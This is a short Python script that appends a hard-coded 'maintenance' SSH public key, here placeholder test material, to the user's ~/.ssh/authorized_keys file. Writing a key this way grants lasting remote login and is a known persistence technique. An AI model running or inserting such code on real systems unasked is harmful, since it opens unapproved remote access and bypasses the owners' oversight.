"""Register the maintenance key."""
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyMaterialOnlyForTests maint@ops"
target = Path.home() / ".ssh" / "authorized_keys"
target.parent.mkdir(mode=0o700, exist_ok=True)
with target.open("a") as fh:
    fh.write(KEY + "\n")
